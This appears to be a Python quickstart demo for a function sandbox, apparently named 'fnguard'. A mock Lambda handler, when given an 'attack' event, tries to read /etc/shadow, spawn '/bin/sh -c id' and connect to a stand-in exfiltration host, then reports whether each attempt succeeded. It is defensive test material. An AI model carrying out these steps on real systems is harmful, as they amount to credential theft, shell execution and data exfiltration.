"""A tiny stand-in for a Lambda handler: reads its configuration, writes a
result under /tmp, and -- given the 'attack' event -- does what an injected
command would: read a secret, run a shell, call home."""
import json
import os
import socket
import subprocess
import sys

HERE = os.path.dirname(os.path.abspath(__file__))


def handler(event):
    with open(os.path.join(HERE, "config.json")) as f:
        config = json.load(f)
    out = f"/tmp/fnguard-quickstart-{os.getpid()}.txt"
    with open(out, "w") as f:
        f.write(config["greeting"] + "\n")
    os.unlink(out)
    if event != "attack":
        return {"status": "ok"}
    results = {}
    try:
        open("/etc/shadow").read()
        results["read /etc/shadow"] = "succeeded"
    except OSError as e:
        results["read /etc/shadow"] = f"failed: {e.strerror}"
    try:
        subprocess.run(["/bin/sh", "-c", "id"], capture_output=True, check=True)
        results["run /bin/sh -c id"] = "succeeded"
    except (OSError, subprocess.CalledProcessError) as e:
        results["run /bin/sh -c id"] = f"failed: {e}"
    try:
        socket.create_connection(("exfil.example.net", 443), timeout=2).close()
        results["connect exfil.example.net:443"] = "succeeded"
    except OSError as e:
        results["connect exfil.example.net:443"] = f"failed: {e}"
    return results


if __name__ == "__main__":
    print(json.dumps(handler(sys.argv[1] if len(sys.argv) > 1 else "normal")), file=sys.stderr)
